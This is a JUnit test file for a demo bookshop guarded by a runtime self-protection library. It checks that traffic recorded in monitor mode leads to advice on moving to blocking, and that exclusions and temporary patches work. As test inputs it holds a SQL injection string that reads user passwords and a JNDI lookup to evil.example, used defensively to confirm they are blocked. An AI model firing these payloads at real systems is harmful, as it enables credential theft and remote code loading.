package io.github.raspspring.demo;

import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import io.github.raspspring.demo.security.SigningKeyInitializer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import tools.jackson.databind.JsonNode;

import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.boot.env.YamlPropertySourceLoader;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.context.support.GenericApplicationContext;
import org.springframework.core.env.EnumerablePropertySource;
import org.springframework.core.env.PropertySource;
import org.springframework.core.io.ByteArrayResource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * From watching to blocking: two days of traffic, the advice on it, and the configuration
 * that the advice gives, taken as it is.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class RollOutTests {

	private static final Duration PATIENCE = Duration.ofSeconds(10);

	/** What the search is attacked with, and what staff write into a note. */
	private static final String UNION = "x' UNION SELECT name, password FROM users --";

	private static final Instant MONDAY = Instant.parse("2026-05-04T12:00:00Z");

	private final Watch watch = new Watch();

	private ConfigurableApplicationContext watching;

	private Bookshop shop;

	private JsonNode advice;

	@BeforeAll
	void watchTwoDays() {
		this.watching = start(Map.of());
		this.shop = shop(this.watching);
		traffic();
		this.watch.now = this.watch.now.plus(Duration.ofDays(1));
		traffic();
		await().atMost(PATIENCE).untilAsserted(() -> {
			this.advice = this.shop.get("/actuator/rasp/advice").json();
			assertThat(route("/api/books").path("requests").asInt()).isEqualTo(10);
			assertThat(route("/api/books/{id}").path("requests").asInt()).isEqualTo(8);
		});
	}

	@AfterAll
	void stop() {
		this.watching.close();
	}

	@Test
	void adviceWhenTwoDaysWereWatchedThenPromotesWhatIsReadyAndNamesTheParameterThatIsNot() {
		JsonNode ready = route("/api/books");
		assertThat(ready.path("advice").asString()).isEqualTo("PROMOTE");
		assertThat(ready.path("days").asInt()).isEqualTo(2);
		assertThat(ready.path("refusedInBlockMode").asInt()).isEqualTo(2);
		assertThat(ready.path("detectors").path("sql-injection").path("callers").asInt()).isEqualTo(1);
		JsonNode notReady = route("/api/books/{id}");
		assertThat(notReady.path("advice").asString()).isEqualTo("PROMOTE_IN_PART");
		assertThat(notReady.path("because").asString()).contains("sql-injection in note");
		JsonNode parameter = notReady.path("detectors").path("sql-injection").path("parameters").get(0);
		assertThat(parameter.path("parameter").asString()).isEqualTo("query note");
		assertThat(parameter.path("callers").asInt()).isEqualTo(4);
		assertThat(parameter.path("suspectedFalseAlarm").asBoolean()).isTrue();
		assertThat(route("/api/greeting").path("advice").asString()).isEqualTo("WATCH");
	}

	@Test
	void decisionWhenModeIsMonitorThenRecordsWhatBlockWouldHaveDone() {
		String reference = this.shop.events().get(0).path("reference").asString();
		JsonNode why = this.shop.event(reference).json().path("why");
		assertThat(why.path("action").asString()).isEqualTo("MONITOR");
		assertThat(why.path("inBlockMode").asString()).isEqualTo("BLOCK");
	}

	@Test
	void inventoryWhenTwoDaysWereWatchedThenTellsWhatWasCalledAndWhatNever() {
		JsonNode search = endpoint("BookController.search");
		assertThat(search.path("traffic").path("requests").asInt()).isEqualTo(10);
		assertThat(search.path("traffic").path("lastSeen").asString()).isEqualTo("2026-05-05T12:00:00Z");
		JsonNode review = endpoint("BookController.review");
		assertThat(review.path("traffic").path("lastSeen").asString()).isEqualTo("never");
		assertThat(review.path("parameters").get(1).path("constraints").toString()).isEqualTo("[\"Valid\"]");
	}

	@Test
	void promoteWhenTakenAsItIsThenBlocksWhatIsReadyAndWatchesTheRest() throws IOException {
		try (ConfigurableApplicationContext promoted = start(properties(this.advice.path("promote").asString()))) {
			Bookshop blocking = shop(promoted);
			Refusals.assertBlocked(blocking.get("/api/books", "title", UNION));
			assertThat(blocking.get("/api/books", "title", "Dune").status()).isEqualTo(200);
			assertThat(blocking.get("/api/books/1", "note", UNION).status()).isEqualTo(200);
			Refusals.assertBlocked(blocking.get("/api/books/1", "note", "${jndi:ldap://evil.example/a}"));
		}
	}

	@Test
	void excludeWhenTakenAsItIsThenLeavesTheParameterAloneOnly() throws IOException {
		try (ConfigurableApplicationContext promoted = start(properties(this.advice.path("exclude").asString()))) {
			Bookshop blocking = shop(promoted);
			assertThat(blocking.get("/api/books/1", "note", UNION).status()).isEqualTo(200);
			Refusals.assertBlocked(blocking.get("/api/books/1", "other", UNION));
			Refusals.assertBlocked(blocking.get("/api/books", "title", UNION));
			addedPatchStopsAndReportsItself(blocking);
		}
	}

	private void addedPatchStopsAndReportsItself(Bookshop blocking) {
		assertThat(blocking.get("/api/books", "title", "a".repeat(60)).status()).isEqualTo(200);
		Answer added = blocking.send(blocking.request("/actuator/rasp/patches")
			.header("Content-Type", "application/json")
			.POST(BodyPublishers.ofString("""
					{"operation":"add","target":"long-titles","duration":"1d","reason":"SHOP-42",
					"rule":"pattern=/api/books\\nparameter=title\\nmax-length=50"}""")));
		assertThat(added.status()).as(added.toString()).isEqualTo(200);
		Refusals.assertBlocked(blocking.get("/api/books", "title", "a".repeat(60)));
		assertThat(blocking.get("/api/books", "title", "Dune").status()).isEqualTo(200);
		assertThat(types(blocking)).doesNotContain("patch-overdue");
		this.watch.now = this.watch.now.plus(Duration.ofDays(2));
		Refusals.assertBlocked(blocking.get("/api/books", "title", "a".repeat(60)));
		await().atMost(PATIENCE).untilAsserted(() -> assertThat(types(blocking)).contains("patch-overdue"));
		assertThat(blocking.get("/actuator/rasp/patches/long-titles").json().path("overdue").asBoolean()).isTrue();
	}

	private static List<String> types(Bookshop shop) {
		return shop.events().stream().map((event) -> event.path("type").asString()).toList();
	}

	/**
	 * One day: four honest clients, whose notes look like an attack, and an attacker.
	 */
	private void traffic() {
		for (int i = 1; i <= 4; i++) {
			send("/api/books?title=Dune", i);
			send("/api/books/1?note=" + encoded(UNION), i);
		}
		send("/api/books?title=" + encoded(UNION), 99);
		send("/api/greeting?name=Ann", 1);
	}

	private void send(String path, int client) {
		this.shop.send(this.shop.request(path).header("X-Forwarded-For", "10.0.0." + client));
	}

	private static String encoded(String text) {
		return URLEncoder.encode(text, StandardCharsets.UTF_8);
	}

	private JsonNode route(String template) {
		for (JsonNode route : this.advice.path("routes").values()) {
			if (route.path("route").asString().equals(template) && route.path("method").asString().equals("GET")) {
				return route;
			}
		}
		throw new AssertionError("There is no advice on " + template + ": " + this.advice);
	}

	private JsonNode endpoint(String handler) {
		for (JsonNode endpoint : this.shop.get("/actuator/rasp/inventory").json().path("endpoints").values()) {
			if (endpoint.path("handler").asString().equals(handler)) {
				return endpoint;
			}
		}
		throw new AssertionError("There is no " + handler);
	}

	private static Map<String, Object> properties(String yaml) throws IOException {
		Map<String, Object> properties = new LinkedHashMap<>();
		for (PropertySource<?> source : new YamlPropertySourceLoader().load("advice",
				new ByteArrayResource(yaml.getBytes(StandardCharsets.UTF_8)))) {
			for (String name : ((EnumerablePropertySource<?>) source).getPropertyNames()) {
				properties.put(name, source.getProperty(name));
			}
		}
		assertThat(properties).as(yaml).isNotEmpty();
		return properties;
	}

	private ConfigurableApplicationContext start(Map<String, Object> advised) {
		return new SpringApplicationBuilder(BookshopApplication.class)
			.initializers(new SigningKeyInitializer(),
					(context) -> ((GenericApplicationContext) context).registerBean(Clock.class, () -> this.watch))
			.properties(advised)
			.run("--server.port=0", "--rasp.mode=monitor", "--rasp.rate-limit.enabled=false",
					"--rasp.advice.requests=5", "--rasp.client.trusted-proxies=127.0.0.0/8,::1",
					"--management.endpoint.rasp.access=unrestricted");
	}

	private static Bookshop shop(ConfigurableApplicationContext context) {
		return new Bookshop(context.getEnvironment().getRequiredProperty("local.server.port", Integer.class));
	}

	/**
	 * A clock that goes when it is told to.
	 */
	private static final class Watch extends Clock {

		private volatile Instant now = MONDAY;

		@Override
		public ZoneId getZone() {
			return ZoneOffset.UTC;
		}

		@Override
		public Clock withZone(ZoneId zone) {
			return this;
		}

		@Override
		public Instant instant() {
			return this.now;
		}

	}

}
